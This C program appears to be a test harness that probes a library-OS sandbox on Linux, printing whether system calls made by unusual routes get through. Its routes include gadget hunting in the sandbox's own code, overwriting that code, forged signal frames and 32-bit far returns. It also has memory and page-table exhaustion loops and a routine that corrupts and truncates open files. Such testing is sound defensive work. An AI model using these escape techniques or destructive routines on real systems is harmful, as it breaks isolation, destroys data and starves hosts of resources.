/* Attacks below the system calls of Linux: by instructions of the library OS itself, which it finds by GS, and by ways in that no
   compiler makes. Where there is no library OS (on Linux) the same calls are made by an instruction of this program: the control,
   in which each has its effect.

   hostile WAY CALL [PATH | NUMBER]: WAY is how the call is made, CALL which; what it reached or met is printed. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <ucontext.h>
#include <unistd.h>

static unsigned long found, at; /* A system call instruction, some pops, and a return. */
static unsigned long gs;

__asm__(".text\n.globl own\nown: syscall\n ret\n"
        /* jump(at, number, arguments, stack): the registers for a call, a stack of nothing but the way back, and there it goes. */
        ".globl jump\njump:\n push %rbx\n push %rbp\n push %r12\n push %r13\n push %r14\n push %r15\n"
        " mov %rsp, saved(%rip)\n mov %rdi, %r11\n mov %rsi, %rax\n mov %rcx, %rsp\n mov %rcx, %rbx\n mov %rcx, %rbp\n mov %rdx, %rcx\n"
        " mov (%rcx), %rdi\n mov 8(%rcx), %rsi\n mov 16(%rcx), %rdx\n mov 24(%rcx), %r10\n mov 32(%rcx), %r8\n mov 40(%rcx), %r9\n"
        " jmp *%r11\n.globl back\nback:\n mov saved(%rip), %rsp\n pop %r15\n pop %r14\n pop %r13\n pop %r12\n pop %rbp\n pop %rbx\n ret\n"
        ".data\nsaved: .quad 0\n.text\n");
extern char own[], back[];
long jump(unsigned long at, long number, const long *arguments, void *stack);

static long host(long number, long a, long b, long c, long d, long e, long f) {
    static unsigned long stack[4096];
    for (int i = 0; i < 4096; i++) stack[i] = (unsigned long)back;
    long arguments[] = {a, b, c, d, e, f};
    return jump(at, number, arguments, stack + 2048);
}

/* In the library OS's text, around the address where calls go in: the instruction, `add rsp`, pops, and a return. */
static unsigned long find(void) {
    unsigned long entry;
    __asm__ volatile("mov %%gs:0, %0" : "=r"(entry));
    /* Downwards first: behind the text come data, with the like of it that cannot be executed. */
    for (int direction = -1; direction <= 1; direction += 2) {
        for (long i = 0; i < 1500000; i++) {
            const unsigned char *p = (void *)(entry + direction * i);
            if (direction < 0 && (unsigned long)p < (entry & ~0xfffffUL)) break;
            if (p[0] != 0x0f || p[1] != 0x05) continue;
            const unsigned char *q = p + 2;
            if (q[0] == 0x48 && q[1] == 0x83 && q[2] == 0xc4) q += 4;
            while ((*q >= 0x58 && *q <= 0x5f && *q != 0x5c) || (*q == 0x41 && q[1] >= 0x58 && q[1] <= 0x5f)) q += *q == 0x41 ? 2 : 1;
            if (*q == 0xc3) return (unsigned long)p;
        }
    }
    return 0;
}

static char *code(unsigned long where) {
    return mmap((void *)where, 65536, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | (where ? MAP_FIXED : 0), -1, 0);
}

static void handler(int signal) { at = found, host(SYS_exit_group, 7, 0, 0, 0, 0, 0); }

static void take_over(void *handler) {
    unsigned long action[] = {(unsigned long)handler, SA_NODEFER | 0x04000000, (unsigned long)own, 0};
    printf("rt_sigaction %ld\n", host(SYS_rt_sigaction, SIGSYS, (long)action, 0, 8, 0, 0));
}

/* The way from which the call comes. */
static int way(const char *name) {
    if (!strcmp(name, "library")) return 1; /* As found. */
    if (!strcmp(name, "raw")) at = (unsigned long)memcpy(code(0), "\x0f\x05\xc3", 3);
    else if (!strcmp(name, "vdso")) {
        unsigned char *p = (void *)getauxval(AT_SYSINFO_EHDR);
        for (int i = 0; p && i < 8192; i++)
            if (p[i] == 0x0f && p[i + 1] == 0x05) return at = (unsigned long)p + i, 1;
        return 0;
    } else if (!strcmp(name, "overwritten")) {
        /* The library OS's text, written over by the program. */
        unsigned long page = at & ~0xfffUL;
        printf("mprotect %ld\n", host(SYS_mprotect, page, 8192, 7, 0, 0, 0));
        memcpy((void *)at, "\x0f\x05\xc3", 3);
    } else if (!strcmp(name, "replaced")) {
        /* Memory of its own where the library OS's text was. */
        unsigned long to = (at & ~0xfffUL) + 8192;
        long mapped = host(SYS_mmap, to, 4096, 7, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
        printf("mmap %d\n", mapped == (long)to);
        at = (unsigned long)memcpy((void *)to, "\x0f\x05\xc3", 3);
    } else if (!strcmp(name, "handler")) take_over(handler), way("raw");
    else if (!strcmp(name, "ignored")) take_over((void *)1), way("raw");
    else return 0;
    return 1;
}

static void endless(const char *what) {
    struct itimerval never = {0};
    host(SYS_setitimer, ITIMER_PROF, (long)&never, 0, 0, 0, 0), host(SYS_setitimer, ITIMER_REAL, (long)&never, 0, 0, 0, 0);
    if (!strcmp(what, "pages")) {
        for (;;) {
            char *piece = (char *)host(SYS_mmap, 0, 1 << 20, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            for (int i = 0; i < 1 << 20; i += 4096) piece[i] = 1;
        }
    } else if (!strcmp(what, "tables")) {
        /* Read only: every page shows zeros, and what they cost is the host's tables. */
        for (;;) {
            char *piece = (char *)host(SYS_mmap, 0, 1L << 40, 1, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
            host(SYS_madvise, (long)piece, 1L << 40, MADV_NOHUGEPAGE, 0, 0, 0);
            for (long i = 0; i < 1L << 40; i += 2 << 20) ((volatile char *)piece)[i];
        }
    } else {
        /* Files of memory. */
        static char bytes[1 << 20];
        for (long offset = 1L << 40;; offset += sizeof bytes)
            for (int d = 3; d < 32; d++) host(SYS_pwrite64, d, (long)bytes, sizeof bytes, offset, 0, 0);
    }
}

static void spoil(void) {
    static char bytes[4096];
    memset(bytes, 'x', sizeof bytes);
    for (int d = 3; d < 64; d++) {
        char *mapped = (char *)host(SYS_mmap, 0, 4096, 3, MAP_SHARED, d, 0);
        if ((unsigned long)mapped < -4095UL) memset(mapped, 'x', 16);
        host(SYS_pwrite64, d, (long)bytes, sizeof bytes, 0, 0, 0);
        host(SYS_ftruncate, d, 0, 0, 0, 0, 0), host(SYS_fallocate, d, 3, 0, 1L << 30, 0, 0);
        host(SYS_close, d, 0, 0, 0, 0, 0);
    }
    host(SYS_exit_group, 5, 0, 0, 0, 0, 0);
}

int main(int argc, char **argv) {
    setvbuf(stdout, 0, _IONBF, 0);
    const char *name = argv[2], *path = argc > 3 ? argv[3] : "";
    long number = atol(path);
    __asm__ volatile("rdgsbase %0" : "=r"(gs));
    found = at = gs ? find() : (unsigned long)own;
    if (!at || !way(argv[1])) return printf("there is no such way\n"), 2;
    char byte = 'x', *arguments[] = {"/bin/true", 0};
    struct iovec local = {&byte, 1}, remote = {(void *)getauxval(AT_PHDR), 1};
    struct itimerval soon = {{0, 1000}, {0, 1000}};
    int level, option, one = 1, size = 4;
    long r = -EINVAL;
    if (!strcmp(name, "getpid")) r = host(SYS_getpid, 0, 0, 0, 0, 0, 0);
    else if (!strcmp(name, "creat")) r = host(SYS_creat, (long)path, 0644, 0, 0, 0, 0);
    else if (!strcmp(name, "openat")) r = host(SYS_openat, AT_FDCWD, (long)path, O_CREAT | O_WRONLY, 0644, 0, 0);
    else if (!strcmp(name, "creat-x32")) r = host(0x40000000 | SYS_creat, (long)path, 0644, 0, 0, 0, 0);
    else if (!strcmp(name, "creat-32")) {
        /* 32-bit code, entered by a far return: int 0x80 with creat's number there, and back. */
        char *low = code(0x10000000);
        strcpy(low + 4096, path);
        memcpy(low, "\xb8\x08\0\0\0\xbb\0\x10\0\x10\xb9\xa4\x01\0\0\xcd\x80\xea\x40\0\0\x10\x33\0", 24);
        memcpy(low + 64, "\xc3", 1);
        __asm__ volatile("mov %%rsp, %%r12\n mov %1, %%esp\n sub $8, %%rsp\n lea 2f(%%rip), %%rax\n mov %%rax, (%%rsp)\n"
                         " pushq $0x23\n pushq $0x10000000\n rex.w lret $0\n 2: mov %%r12, %%rsp"
                         : "=a"(r) : "r"(0x10008000) : "rbx", "rcx", "rdx", "r8", "r9", "r10", "r11", "r12", "memory");
        r = (int)r;
    } else if (!strcmp(name, "fork")) {
        r = host(SYS_fork, 0, 0, 0, 0, 0, 0);
        if (!r) _exit(0);
    } else if (!strcmp(name, "execve")) r = host(SYS_execve, (long)arguments[0], (long)arguments, 0, 0, 0, 0);
    else if (!strcmp(name, "kill")) r = host(SYS_kill, number, SIGKILL, 0, 0, 0, 0);
    else if (!strcmp(name, "ptrace")) r = host(SYS_ptrace, 0x4206, number, 0, 0, 0, 0); /* PTRACE_SEIZE */
    else if (!strcmp(name, "process_vm_readv")) r = host(SYS_process_vm_readv, number, (long)&local, 1, (long)&remote, 1, 0);
    else if (!strcmp(name, "socket")) r = host(SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0, 0);
    else if (!strcmp(name, "prctl")) r = host(SYS_prctl, 1, 0, 0, 0, 0, 0);
    else if (!strcmp(name, "memfd")) r = host(SYS_memfd_create, (long)"x", 0, 0, 0, 0, 0);
    else if (!strcmp(name, "timer")) signal(SIGVTALRM, SIG_IGN), r = host(SYS_setitimer, ITIMER_VIRTUAL, (long)&soon, 0, 0, 0, 0);
    else if (!strcmp(name, "shared")) r = host(SYS_mmap, 0, 4096, 3, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    else if (sscanf(name, "option:%d:%d", &level, &option) == 2) r = host(SYS_setsockopt, -1, level, option, (long)&one, 4, 0);
    else if (sscanf(name, "ask-option:%d:%d", &level, &option) == 2) r = host(SYS_getsockopt, -1, level, option, (long)&one, (long)&size, 0);
    else if (!strcmp(name, "clock")) r = host(SYS_clock_gettime, 1, (long)&soon, 0, 0, 0, 0);
    else if (!strcmp(name, "clock-kernel")) r = host(SYS_clock_gettime, 1, 0xffffffff81000000, 0, 0, 0, 0);
    else if (!strcmp(name, "forged")) {
        /* A frame of a signal that never was: it goes on at the instruction, with creat's registers. */
        static char area[8192];
        static ucontext_t frame;
        getcontext(&frame);
        frame.uc_mcontext.fpregs = 0, frame.uc_flags = 0;
        greg_t *g = frame.uc_mcontext.gregs;
        g[REG_RAX] = SYS_creat, g[REG_RDI] = (long)path, g[REG_RSI] = 0644, g[REG_RIP] = at;
        g[REG_CSGSFS] = 0x002b000000000033;
        unsigned long *top = (unsigned long *)(area + 4096);
        for (int i = 0; i < 64; i++) top[i] = (unsigned long)back;
        g[REG_RSP] = (long)top;
        __asm__ volatile("mov %0, %%rsp\n mov $15, %%eax\n jmp *%1" : : "r"(&frame), "r"(at) : "rax", "memory");
    } else if (!strcmp(name, "unmap")) r = host(SYS_munmap, (at & ~0xfffffUL), 4 << 20, 0, 0, 0, 0);
    else if (!strcmp(name, "spoil")) spoil();
    else if (!strcmp(name, "endless")) endless(path);
    else if (!strcmp(name, "fixed")) {
        /* By Linux's calls, over the library OS. */
        unsigned long places[] = {gs & ~0xfffUL, at & ~0xfffUL, 0x600000000000, 0x7fffffff0000, 0xffff800000000000, -4096UL};
        void *page = mmap(0, 4096, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
            void *p = (void *)places[i];
            int done = mmap(p, 4096, 7, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) != MAP_FAILED;
            int moved = mremap(page, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED, p) != MAP_FAILED;
            int loose = !mprotect(p, 4096, 7), forgot = !madvise(p, 4096, MADV_DONTNEED);
            int wrote = read(open("/dev/zero", O_RDONLY), p, 1) > 0;
            printf("%d%d%d%d%d\n", done, moved, loose, forgot, wrote);
        }
        r = 0;
    }
    if (r < 0 && r > -4096) return printf("errno %03ld\n", -r), 1;
    printf("reached\n");
    return 0;
}
